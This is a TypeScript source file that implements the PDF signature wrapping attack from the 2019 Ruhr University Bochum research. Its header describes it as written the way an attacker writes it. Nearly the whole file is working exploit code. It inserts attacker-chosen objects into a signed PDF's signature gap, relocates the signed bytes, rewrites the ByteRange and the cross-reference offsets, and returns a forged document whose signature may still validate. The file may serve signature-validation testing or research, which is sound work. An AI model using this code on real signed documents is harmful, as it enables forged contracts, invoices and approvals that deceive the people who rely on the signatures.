/** Signature wrapping ("1 Trillion Dollar Refund", Ruhr University Bochum, 2019), as an attacker writes it. */

/**
 * The signed file with other objects in the gap of its signature, whose second part is moved behind them.
 *
 * All bytes that were signed are still there, `startxref` among them: where it points to, the attacker's table
 * stands. A second `ByteRange` in the gap says where the signed bytes went.
 *
 * @param signed  with one signature, and cross-references in a table
 */
export function wrappedPdf(signed: Uint8Array, objects: Record<number, string>): Uint8Array {
  const file = Buffer.from(signed).toString('latin1');
  const ranges = /\/ByteRange \[0 (\d+) (\d+) (\d+)\s*\]/.exec(file);
  if (ranges === null) throw new Error('The file has no signature');
  const [, firstLength = 0, secondStart = 0, secondLength = 0] = ranges.map(Number);
  const second = file.slice(secondStart);
  const [, startOfTable = 0] = (/startxref\s+(\d+)\s+%%EOF\s*$/.exec(file) ?? []).map(Number);
  const table = file.slice(startOfTable, file.lastIndexOf('startxref'));

  const contents = file.slice(firstLength, secondStart).replace(/(?:00)+>$/, '>');
  const offsets = new Map<string, number>();
  const build = (moved: number) => {
    let text = `${file.slice(0, firstLength)}${contents} /ByteRange [0 ${firstLength} ${moved} ${secondLength}] >>\nendobj\n`;
    for (const [number, object] of Object.entries(objects)) {
      offsets.set(number, text.length);
      text += `${number} 0 obj\n${object}\nendobj\n`;
    }
    if (text.length > startOfTable) throw new Error('The gap is too small');
    const own = [...offsets].map(([number, at]) => `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`);
    const shifted = table.replace(/(\d{10}) 00000 n/g, (_, offset: string) => {
      const at = Number(offset) < secondStart ? Number(offset) : Number(offset) + moved - secondStart;
      return `${String(at).padStart(10, '0')} 00000 n`;
    });
    return `${text.padEnd(startOfTable)}${shifted.replace('trailer', `${own.join('')}trailer`)}`;
  };
  // Its length does not depend on where the second part goes, as long as that has as many digits.
  const moved = build(secondStart).length;
  return new Uint8Array(Buffer.from(`${build(moved)}${second}`, 'latin1'));
}
